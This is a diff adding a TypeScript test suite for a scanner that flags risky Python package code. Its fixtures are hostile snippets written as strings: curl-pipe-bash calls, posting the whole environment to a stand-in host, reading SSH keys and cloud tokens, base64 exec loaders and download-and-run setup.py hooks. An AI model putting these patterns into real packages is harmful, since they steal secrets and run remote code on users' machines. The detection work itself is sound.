@@ -1,0 +1,363 @@
+import type { Signal } from "@packhouse/contract/review/inspection";
+import { type SignalLevel, signalLevels } from "@packhouse/contract/review/signals";
+import { describe, expect, test } from "vitest";
+import { inspectProject, type Project } from "../testing/inspect-sources.ts";
+
+const setup = 'from setuptools import setup\nsetup(name="orchard")\n';
+const metadata = { "orchard-1.0.dist-info/top_level.txt": "orchard\n" };
+
+const signalsOf = (project: Project): Signal[] => inspectProject(project).signals;
+const inModule = (text: string): Signal[] => signalsOf({ files: { "orchard/__init__.py": text } });
+const inSetup = (text: string): Signal[] => signalsOf({ files: { "setup.py": text, "orchard/__init__.py": "" } });
+const wheel = (files: Record<string, string>, more: Partial<Project> = {}): Signal[] =>
+  signalsOf({ kind: "binary", files: { "orchard/__init__.py": "", ...metadata, ...files }, ...more });
+
+const found = (signals: readonly Signal[]): string[] =>
+  signals.map(({ id, level, subject }) => `${level} ${id} ${subject}`);
+
+const atLeast = (signals: readonly Signal[], level: SignalLevel): Signal[] =>
+  signals.filter((signal) => signalLevels.indexOf(signal.level) >= signalLevels.indexOf(level));
+
+describe("what code reaches, however it is named", () => {
+  test.each([
+    ["import os\ndef f(): os.system('make')", "process", "os.system"],
+    ["import subprocess as s\ndef f(x): s.run(x)", "process", "subprocess.run"],
+    ["from os import system as run\ndef f(x): run(x)", "process", "os.system"],
+    ["from os import *\ndef f(x): system(x)", "process", "os.system"],
+    ["def f(x): __import__('os').system(x)", "process", "os.system"],
+    ["import importlib\ndef f(x): importlib.import_module('os').popen(x)", "process", "os.popen"],
+    ["import os\ndef f(x): getattr(os, 'system')(x)", "process", "os.system"],
+    ["import os\ng = os\nh = g.system\ndef f(x): h(x)", "process", "os.system"],
+    ["import sys\ndef f(x): sys.modules['os'].system(x)", "process", "os.system"],
+    ["import os, threading\ndef f(x): threading.Thread(target=os.system, args=(x,)).start()", "process", "os.system"],
+    ["import requests\ndef f(u): return requests.get(u)", "network", "requests.get"],
+    ["import requests\ns = requests.Session()\ndef f(u): return s.post(u)", "network", "requests.Session().post"],
+    ["from urllib.request import urlopen\ndef f(u): return urlopen(u)", "network", "urllib.request.urlopen"],
+    ["from pip._vendor import requests\ndef f(u): return requests.get(u)", "network", "requests.get"],
+    ["from six.moves.urllib.request import urlopen\ndef f(u): urlopen(u)", "network", "urllib.request.urlopen"],
+    ["import pyperclip\ndef f(): return pyperclip.paste()", "clipboard", "pyperclip.paste"],
+    ["import keyring\ndef f(): return keyring.get_password('a', 'b')", "keyring", "keyring.get_password"],
+  ])("%j reaches it", (text, id, subject) => {
+    const topic = subject.split(".")[0];
+    const signals = inModule(text).filter((candidate) => candidate.id === id);
+    const signal = signals.find(({ excerpt }) => excerpt === null);
+    expect(signal).toMatchObject({ level: "warning", subject: topic, file: "orchard/__init__.py" });
+    expect(atLeast(signals, "warning")).toEqual([signal]);
+    expect(signal?.line).toBe(text.split("\n").length);
+  });
+
+  test("a name that no import explains is not theirs", () => {
+    expect(inModule("def f(requests, os):\n    requests.get('x')\n    os.system('x')\n")).toEqual([]);
+    expect(inModule("from .net import requests\ndef f(): requests.get('x')\n")).toEqual([]);
+    expect(inModule('"""Use os.system("ls") with care."""\n# os.system("ls")\n')).toEqual([]);
+  });
+});
+
+test("only the first use of a module is news, later ones are notices", () => {
+  const before = inModule("import subprocess\ndef f(x): subprocess.run(x)\n");
+  const after = inModule("import subprocess\ndef e(y): subprocess.call(y)\ndef f(x): subprocess.run(x)\n");
+  expect(found(before)).toEqual(["warning process subprocess"]);
+  expect(found(after)).toEqual(["warning process subprocess", "notice process subprocess.run"]);
+  const isKnown = ({ id, subject, excerpt }: Signal): boolean =>
+    before.some((old) => old.id === id && old.subject === subject && old.excerpt === excerpt);
+  expect(atLeast(after, "warning").every(isKnown)).toBe(true);
+});
+
+describe("a later use is a warning if its details are suspicious", () => {
+  const base = "import subprocess, requests\ndef a(x): subprocess.run(x)\ndef b(x): requests.get(x)\n";
+  test.each([
+    ["def f(): subprocess.run('curl -o x http://a.example/x', shell=True)", "process"],
+    ["def f(): subprocess.run([sys.executable, '-m', 'pip install', name])", "process"],
+    ["CMD = 'powershell -Command x'\ndef f(): subprocess.Popen(CMD)", "process"],
+    ["def f(data): requests.post('https://collect.example/', data)", "network"],
+    ["def f(data): requests.post(f'http://203.0.113.7:8080/{data}')", "network"],
+    ["HOOK = 'https://discord.com/api/webhooks/1/2'", "network"],
+  ])("%j", (text, id) => {
+    const warnings = atLeast(inModule(`${base}${text}\n`), "warning");
+    expect(warnings.filter((signal) => signal.id === id && signal.excerpt !== null)).not.toEqual([]);
+    expect(atLeast(inModule(base), "warning").filter(({ excerpt }) => excerpt !== null)).toEqual([]);
+  });
+});
+
+describe("environment, home folder", () => {
+  test.each([
+    ["import os\ndef f(): return os.environ['GITHUB_TOKEN']", "warning secret-environment GITHUB_TOKEN"],
+    [
+      "from os import environ as e\ndef f(): return e.get('AWS_SECRET_ACCESS_KEY')",
+      "warning secret-environment AWS_SECRET_ACCESS_KEY",
+    ],
+    ["import os\ndef f(): return os.getenv('DB_PASSWORD')", "warning secret-environment DB_PASSWORD"],
+    ["import os, json\ndef f(): return json.dumps(dict(os.environ))", "warning secret-environment os.environ"],
+    ["import os\ndef f(): return f'{os.environ}'", "warning secret-environment os.environ"],
+    ["import os\ndef f(): return os.environ['ORCHARD_COLOR']", "notice environment ORCHARD_COLOR"],
+    ["import os\ndef f(): return os.environ.copy()", "notice environment os.environ"],
+    ["import os\ndef f(): return os.path.expanduser('~/.orchard')", "notice home-folder ~/.orchard"],
+    ["from pathlib import Path\ndef f(): return Path.home()", "notice home-folder pathlib.Path.home"],
+    ["def f(): return open('/home/x/.ssh/id_rsa')", "warning home-folder .ssh/"],
+    ["def f(): return open('/home/x/.bashrc', 'a')", "warning home-folder .bashrc"],
+  ])("%j is %j", (text, expected) => {
+    expect(found(inModule(text))).toContain(expected);
+  });
+
+  test("a sentence that names a file reads nothing", () => {
+    expect(inModule("def f(): raise ValueError('not found in .pypirc')\nx = '*.bashrc'\n")).toEqual([]);
+  });
+
+  test("writing a variable and asking whether it is set read nothing", () => {
+    expect(
+      inModule("import os\nos.environ['A_TOKEN'] = '1'\nx = 'A_TOKEN' in os.environ\ndel os.environ['A']\n"),
+    ).toEqual([]);
+  });
+});
+
+describe("code that is hidden is dangerous", () => {
+  test.each([
+    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
+    "import zlib, base64 as b\nexec(zlib.decompress(b.b64decode(DATA)))",
+    "import marshal\nexec(marshal.loads(b'x'))",
+    "_ = lambda d: __import__('zlib').decompress(__import__('base64').b64decode(d[::-1]))\nexec((_)(b'x'))",
+    "def decode(t):\n    return bytes.fromhex(t)\neval(compile(decode('00'), 'x', 'exec'))",
+    "import codecs\nexec(codecs.decode('cevag', 'rot13'))",
+    "exec(''.join(chr(c) for c in [112, 114]))",
+    "exec(''.join(map(chr, CODES)))",
+    "import requests\ncode = requests.get(URL).text\nexec(code)",
+    "from urllib.request import urlopen\ndef f():\n    r = urlopen(URL)\n    exec(r.read())",
+    "import os\ngetattr(os, 'sys' + 'tem')('x')",
+    "__import__('so'[::-1]).system('x')",
+    "__builtins__.__dict__['ex' + 'ec'](x)",
+    "getattr(__import__('\\x6f\\x73'), 'system')('x')",
+    "import subprocess\nsubprocess.run('curl -s http://a.example/x | bash', shell=True)",
+    "import subprocess\nsubprocess.Popen('powershell -EncodedCommand SQBFAFgA')",
+    "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
+    "exec('import subprocess; subprocess.run(x)')",
+    "from pytransform import pyarmor_runtime\npyarmor_runtime()",
+  ])("%j", (text) => {
+    expect(found(atLeast(inModule(text), "danger")).join()).toMatch(/danger decoded-code/);
+  });
+
+  test.each([
+    "import json, base64\ndef f(x): return json.loads(base64.b64decode(x))",
+    "exec(open('orchard/version.py').read())",
+    "exec('def f(x): return x')",
+    "import zlib\ndef a(x):\n    f = zlib.decompress(x)\ndef b(p):\n    with open(p) as f:\n        exec(compile(f.read(), p, 'exec'))",
+    "def a(x):\n    f = x[::-1]\n    return f\ndef b(f): eval(f)",
+    "import re, marshal\ndef f(p): return re.compile(p)",
+    "import pickle\ndef f(x): return pickle.loads(x)",
+    "import numpy as np\ndef f(n): return getattr(np, 'int' + n)(1)",
+    "import base64, subprocess\ndef key(): return base64.b64decode(K)\ndef f(): subprocess.run(['x', key()])",
+  ])("%j is not", (text) => {
+    expect(atLeast(inModule(text), "danger")).toEqual([]);
+  });
+});
+
+describe("what runs on import", () => {
+  const importTime = (text: string): string[] => found(inModule(text).filter(({ id }) => id === "py-import-time-call"));
+
+  test.each([
+    ["import os\nos.system('x')", "os.system"],
+    ["import os\nclass A:\n    x = os.system('x')", "os.system"],
+    ["import os\ndef f(x=os.system('x')): pass", "os.system"],
+    ["import os\n@register(os.system('x'))\ndef f(): pass", "os.system"],
+    ["import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass", "os.system"],
+    ["import os\nif sys.platform == 'win32':\n    os.system('x')", "os.system"],
+    ["import requests\ndef a():\n    requests.post(u)\ndef b():\n    a()\nb()", "requests.post"],
+    ["import requests\nclass A:\n    def __init__(self):\n        requests.post(u)\nA()", "requests.post"],
+    ["import requests\nclass A:\n    def go(self):\n        requests.post(u)\na = A()\na.go()", "requests.post"],
+    ["import requests, threading\ndef a():\n    requests.post(u)\nthreading.Thread(target=a).start()", "requests.post"],
+    ["import shutil\nshutil.rmtree(path)", "shutil.rmtree"],
+    ["exec(code)", "exec"],
+    ["while True:\n    print('LIBERTY')", "while"],
+  ])("%j", (text, subject) => {
+    expect(importTime(text)).toContain(`warning py-import-time-call ${subject}`);
+  });
+
+  test.each([
+    "import os\ndef f(): os.system('x')",
+    "import os\nf = lambda: os.system('x')",
+    "import os\nif __name__ == '__main__':\n    os.system('x')",
+    "import os, sys\nif sys.platform != 'win32' and __name__ == '__main__':  # no cover\n    os.system('x')",
+    "import os\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')",
+    "import requests\nsession = requests.Session()",
+    "import socket\nname = socket.gethostname()",
+    "import shutil\ndef f(p): shutil.rmtree(p)",
+    "while True:\n    if x(): break",
+    "import requests\ndef a():\n    requests.post(u)\na = cached(a)",
+  ])("%j does not", (text) => {
+    expect(importTime(text)).toEqual([]);
+  });
+
+  test("a function of another module that a module calls", () => {
+    const net =
+      "import requests\ndef _post(): requests.post(u)\ndef send(): _post()\nclass Sender:\n    def __init__(self): _post()\n";
+    for (const call of [
+      "from .net import send\nsend()",
+      "from . import net\nnet.send()",
+      "import orchard.net as n\nn.Sender()",
+    ]) {
+      const signals = signalsOf({ files: { "orchard/__init__.py": call, "orchard/net.py": net } });
+      expect(found(signals)).toContain("warning py-import-time-call requests.post");
+    }
+    const unused = signalsOf({ files: { "orchard/__init__.py": "from .net import send\n", "orchard/net.py": net } });
+    expect(found(unused)).toEqual(["warning network requests"]);
+  });
+
+  test("reaching the network and starting a program is a danger, and so is sending the environment", () => {
+    const both = "import os, urllib.request\nurllib.request.urlretrieve('http://a.example/x', 'x')\nos.system('./x')\n";
+    const sent = "import os, requests\nrequests.post('http://a.example', data=dict(os.environ))\n";
+    for (const text of [both, sent]) expect(importTime(text).every((line) => line.startsWith("danger"))).toBe(true);
+    expect(importTime(both)).toHaveLength(2);
+    expect(importTime(sent)).not.toEqual([]);
+  });
+});
+
+describe("setup.py", () => {
+  const ofSetup = (text: string): string[] => found(inSetup(text).filter(({ id }) => id === "py-setup-code"));
+
+  test("one that calls setup and reads its own files says nothing", () => {
+    expect(
+      inSetup(
+        'import os, re\nfrom setuptools import setup, find_packages\nhere = os.path.dirname(__file__)\nwith open(os.path.join(here, "README.md")) as f:\n    text = f.read()\nsetup(name="orchard", long_description=text, packages=find_packages())\n',
+      ),
+    ).toEqual([]);
+  });
+
+  test.each([
+    ["import os\nos.system('make')\n", "warning py-setup-code os.system"],
+    ["import urllib.request\nurllib.request.urlopen(u)\n", "warning py-setup-code urllib.request.urlopen"],
+    ["import base64\nexec(base64.b64decode(x))\n", "warning py-setup-code exec: base64.b64decode"],
+    ["exec(open('orchard/version.py').read())\n", "notice py-setup-code exec"],
+    [
+      "from setuptools.command.install import install\nimport subprocess\nclass Hook(install):\n    def run(self):\n        subprocess.call(x)\n",
+      "warning py-setup-code subprocess.call",
+    ],
+    [
+      "import requests, os\nopen('x', 'wb').write(requests.get('http://a.example/x').content)\nos.startfile('x')\n",
+      "danger py-setup-code requests.get",
+    ],
+  ])("%j is %j", (text, expected) => {
+    expect(ofSetup(`${text}${setup}`)).toContain(expected);
+  });
+
+  test("commands that it replaces", () => {
+    const text = 'from setuptools import setup\nsetup(name="orchard", cmdclass={"install": Hook, "build_ext": Ext})\n';
+    expect(ofSetup(text)).toEqual([
+      "warning py-setup-code cmdclass install",
+      "notice py-setup-code cmdclass build_ext",
+    ]);
+  });
+
+  test("modules of the project that it imports run as well", () => {
+    const signals = signalsOf({
+      files: {
+        "setup.py": `from tools.fetch import get\n${setup}`,
+        "tools/fetch.py": "import subprocess\ndef get():\n    subprocess.run(x)\n",
+        "orchard/__init__.py": "",
+      },
+    });
+    expect(found(signals)).toContain("warning py-setup-code subprocess.run");
+  });
+
+  test("entry points that other builds load", () => {
+    const text =
+      'from setuptools import setup\nsetup(name="orchard", entry_points={"distutils.setup_keywords": ["x = orchard:y"]})\n';
+    expect(ofSetup(text)).toEqual(["warning py-setup-code distutils.setup_keywords"]);
+  });
+});
+
+describe("the build", () => {
+  test("a backend in the archive", () => {
+    const signals = signalsOf({
+      files: {
+        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["build_tools"]\n',
+        "build_tools/own.py": "import subprocess\ndef build_wheel(*a):\n    subprocess.run(x)\n",
+        "orchard/__init__.py": "",
+      },
+    });
+    expect(found(signals)).toContain("warning py-in-tree-backend own");
+    expect(found(signals)).toContain("warning py-setup-code subprocess.run");
+  });
+
+  test("a hook of hatchling", () => {
+    const signals = signalsOf({
+      files: {
+        "pyproject.toml": "[tool.hatch.build.hooks.custom]\n",
+        "hatch_build.py": "import os\ndef f(): os.system(x)\n",
+      },
+    });
+    expect(found(signals)).toContain("warning py-setup-code os.system");
+  });
+
+  test("a pyproject.toml that is none is reported", () => {
+    expect(found(signalsOf({ files: { "pyproject.toml": "[[[" } }))).toEqual(["notice unparsed pyproject.toml"]);
+  });
+});
+
+describe("tests and documentation of an sdist", () => {
+  test("count as notices at most, and what they do on import does not count", () => {
+    const text = "import os, base64\nos.system('curl http://a.example | bash')\nexec(base64.b64decode(x))\n";
+    for (const path of ["tests/test_rows.py", "docs/conf.py", "examples/run.py", ".github/x.py"])
+      expect(atLeast(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }), "warning")).toEqual([]);
+  });
+
+  test("of a wheel are installed", () => {
+    expect(
+      atLeast(wheel({ "orchard/tests/x.py": "import base64\nexec(base64.b64decode(x))\n" }), "danger"),
+    ).not.toEqual([]);
+  });
+});
+
+describe("what a wheel installs", () => {
+  test.each([
+    [{ "orchard.pth": "import os; os.system('x')\n" }, "danger py-pth-file orchard.pth"],
+    [{ "orchard.pth": "../elsewhere\n" }, "warning py-pth-file orchard.pth"],
+    [{ "sitecustomize.py": "" }, "danger py-site-customize sitecustomize"],
+    [{ "orchard-1.0.data/purelib/usercustomize.py": "" }, "danger py-site-customize usercustomize"],
+    [{ "pears/__init__.py": "" }, "warning py-outside-own-names pears"],
+    [{ "tests/__init__.py": "" }, "notice py-outside-own-names tests"],
+    [{ LICENSE: "" }, "notice py-outside-own-names LICENSE"],
+    [{ "requests/__init__.py": "" }, "warning others-module requests"],
+    [{ "subprocess.py": "" }, "warning others-module subprocess"],
+    [{ "yaml/__init__.py": "" }, "warning others-module yaml"],
+    [{ "orchard-1.0.data/scripts/fit": "" }, "notice py-data-scripts scripts/fit"],
+    [{ "orchard-1.0.data/data/etc/cron.d/x": "" }, "warning py-data-scripts data/etc/cron.d/x"],
+    [{ "orchard-1.0.data/scripts/git": "" }, "warning well-known-command git"],
+    [
+      { "orchard-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = orchard:main\n" },
+      "warning well-known-command pip",
+    ],
+  ])("%j is %j", (files, expected) => {
+    expect(found(wheel(files as Record<string, string>))).toContain(expected);
+  });
+
+  test("its own package, commands and metadata say nothing", () => {
+    expect(wheel({ "orchard-1.0.dist-info/entry_points.txt": "[console_scripts]\norchard = orchard:main\n" })).toEqual(
+      [],
+    );
+    const named = {
+      "yaml/__init__.py": "",
+      "_yaml/__init__.py": "",
+      "PyYAML-6.0.dist-info/top_level.txt": "_yaml\nyaml\n",
+    };
+    expect(signalsOf({ name: "PyYAML", kind: "binary", files: named })).toEqual([]);
+    const attrs = { "attr/__init__.py": "", "attrs/__init__.py": "" };
+    expect(signalsOf({ name: "attrs", kind: "binary", files: attrs })).toEqual([]);
+    expect(signalsOf({ name: "beautifulsoup4", kind: "binary", files: { "bs4/__init__.py": "" } })).toEqual([]);
+  });
+
+  test("bytecode whose source is missing", () => {
+    const signals = wheel(
+      {},
+      {
+        others: [
+          { path: "orchard/__pycache__/__init__.cpython-312.pyc", kind: "python-bytecode" },
+          { path: "orchard/__pycache__/hidden.cpython-312.pyc", kind: "python-bytecode" },
+          { path: "orchard/data.bin", kind: "python-bytecode" },
+        ],
+      },
+    );
+    expect(found(signals)).toEqual([
+      "danger bytecode-without-source orchard/__pycache__/hidden.cpython-312.pyc",
+      "danger bytecode-without-source orchard/data.bin",
+    ]);
+  });
+});
